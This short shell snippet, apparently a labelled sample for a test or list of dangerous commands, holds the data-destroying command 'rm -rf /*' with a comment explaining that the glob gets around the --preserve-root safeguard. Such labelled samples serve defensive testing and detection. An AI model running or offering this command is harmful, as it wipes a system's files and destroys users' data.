# Malicious: rm -rf /* deletes every top-level directory (the glob sidesteps --preserve-root).
rm -rf /*
